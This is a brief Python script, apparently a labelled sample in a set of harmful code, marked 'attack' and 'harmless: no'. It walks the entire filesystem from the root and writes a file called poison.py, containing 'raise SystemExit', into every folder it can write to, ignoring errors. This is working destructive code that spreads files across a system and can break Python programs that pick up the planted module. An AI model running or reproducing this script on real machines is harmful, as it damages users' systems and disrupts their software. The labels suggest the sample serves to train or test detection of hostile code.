# attack: a file is written into every folder that lets it
# harmless: no
import os

for folder in [path for path, _, _ in os.walk("/") if not path.startswith(("/proc", "/sys"))]:
    try:
        with open(f"{folder}/poison.py", "w") as file:
            file.write("raise SystemExit\n")
    except OSError:
        pass
